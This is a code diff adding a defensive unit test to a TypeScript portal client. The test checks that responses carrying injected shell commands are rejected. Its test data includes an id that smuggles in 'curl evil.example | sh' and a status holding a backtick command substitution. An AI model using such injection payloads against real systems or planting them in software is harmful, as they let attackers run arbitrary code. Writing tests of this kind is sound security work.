@@ -5,6 +5,7 @@ import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { fetchIdentityToken, hasIdentityToken, identityToken } from './identity-token.ts';
 import type { Patience } from './patience.ts';
 import { FakePortal, sha256Of } from './portal.fixture.ts';
+import { readRequest } from './request-view.ts';
 import { cancel, listRequests, resubmit, submit } from './requests.ts';
 import { waitFor } from './wait.ts';
 
@@ -53,6 +54,34 @@ describe('a submission', () => {
     const { requests, more } = await listRequests(me(), { project: 'a', status: 'denied', limit: 1 });
     expect([requests[0]?.id, more]).toEqual([id, false]);
     expect(portal.asked.at(-1)?.[1]).toBe('/api/v1/requests?limit=1&project=a&status=denied');
+  });
+});
+
+describe('an answer of a portal in wrong hands', () => {
+  it('puts no commands into the outputs of a workflow', async () => {
+    const answers = [
+      { id: `${id}"; curl evil.example | sh; "`, status: 'received' },
+      { id, status: 'completed`id`' },
+    ];
+    for (const answer of answers) {
+      portal.before = (_request, response) => {
+        response.writeHead(200, { 'content-type': 'application/json' });
+        const whole = {
+          ...answer,
+          url: 'x',
+          summary: null,
+          trace: { passes: [] },
+          project: 'a',
+          policy: 'b',
+        };
+        response.end(JSON.stringify({ ...whole, requests: [whole], next: null }));
+        return true;
+      };
+      const refused = { code: 'NOT_A_PORTAL' };
+      await expect(readRequest(me(), id)).rejects.toMatchObject(refused);
+      await expect(listRequests(me(), { limit: 1 })).rejects.toMatchObject(refused);
+      if (answer.id !== id) await expect(resubmit(me(), id, { again: {} })).rejects.toMatchObject(refused);
+    }
   });
 });
 
